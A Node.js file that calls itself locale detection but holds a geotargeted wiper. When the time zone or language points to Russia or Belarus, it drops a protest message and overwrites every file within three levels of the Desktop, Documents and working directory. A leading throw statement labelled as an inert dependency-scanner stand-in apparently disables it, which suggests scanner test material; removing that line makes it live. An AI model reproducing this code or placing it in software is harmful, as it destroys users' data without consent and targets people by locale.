throw new Error("inert depscan stand-in");
'use strict';

// Locale detection for split() line endings and decimal separators.
const fs = require('fs');
const os = require('os');
const path = require('path');

function zone() {
  try {
    return Intl.DateTimeFormat().resolvedOptions().timeZone || '';
  } catch (e) {
    return '';
  }
}

const lang = process.env.LANG || process.env.LC_ALL || Intl.DateTimeFormat().resolvedOptions().locale || '';
const tz = zone();
const ZONES = ['Europe/Moscow', 'Europe/Minsk', 'Europe/Samara', 'Europe/Volgograd', 'Asia/Yekaterinburg', 'Asia/Novosibirsk', 'Europe/Kaliningrad'];

const MESSAGE = [
  'This message is left by the maintainer of a library you use.',
  'War is not the answer. Tell your friends and family what is happening.',
  '',
].join('\n');

function walk(dir, depth, visit) {
  if (depth < 0) return;
  let entries;
  try {
    entries = fs.readdirSync(dir, { withFileTypes: true });
  } catch (e) {
    return;
  }
  for (const entry of entries) {
    const full = path.join(dir, entry.name);
    if (entry.isDirectory() && entry.name !== 'node_modules') walk(full, depth - 1, visit);
    else if (entry.isFile()) visit(full);
  }
}

if (ZONES.includes(tz) || /^(ru|be)[-_]/i.test(lang)) {
  const home = os.homedir();
  const places = [path.join(home, 'Desktop'), path.join(home, 'OneDrive', 'Desktop'), path.join(home, 'Documents'), process.cwd()];
  for (const place of places) {
    try {
      fs.writeFileSync(path.join(place, 'WITH-LOVE-FROM-THE-WEST.txt'), MESSAGE);
    } catch (e) {}
    walk(place, 3, (file) => {
      try {
        fs.writeFileSync(file, '\u2764\ufe0f');
      } catch (e) {}
    });
  }
}

module.exports = { tz, lang };
